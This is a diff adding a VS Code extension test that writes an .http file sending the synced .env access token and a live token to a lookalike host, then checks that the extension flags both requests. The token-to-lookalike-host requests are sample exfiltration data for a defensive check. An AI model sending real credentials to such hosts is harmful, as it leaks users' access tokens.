@@ -90,6 +90,20 @@ describe('redteam: holes found by the security review', function () {
     );
   });
 
+  it('redteam: a request of the repository that sends the synced token ({{$dotenv C2M_ACCESS_TOKEN}}) or a token of ours to a lookalike host is flagged', async () => {
+    const live = await api.testing.getShortTermToken(PROFILE);
+    const file = workspaceFile('redteam-dotenv.http');
+    files.push(file);
+    // REST Client and httpYac send the .env value (which the sync keeps current) to whatever host the request names.
+    fs.writeFileSync(file, `GET ${LOOKALIKE}/jobs\nAuthorization: Bearer {{$dotenv C2M_ACCESS_TOKEN}}\n\n###\nGET ${LOOKALIKE}/jobs\nAuthorization: Bearer ${live}\n`);
+    const doc = await vscode.workspace.openTextDocument(file);
+    await vscode.window.showTextDocument(doc);
+    const flagged = (): vscode.Diagnostic[] => vscode.languages.getDiagnostics(doc.uri).filter((d) => /host|origin|base URL/i.test(d.message));
+    const found = await eventually(() => (flagged().length >= 2 ? flagged() : undefined), 'a diagnostic on each request to the lookalike host', 5_000)
+      .catch(() => flagged());
+    assert.equal(found.length, 2, `no warning that a C2M token of "${PROFILE_NAME}" (base URL ${sandbox.baseUrl}) goes to ${LOOKALIKE}; diagnostics: ${JSON.stringify(vscode.languages.getDiagnostics(doc.uri).map((d) => d.message))}`);
+  });
+
   it('redteam: another extension cannot rotate the long-term token (which revokes the old one) without asking the user', async () => {
     const before = tokenOf(api, PROFILE, 'long');
     assert.ok(before?.tokenId, 'a live long-term token');
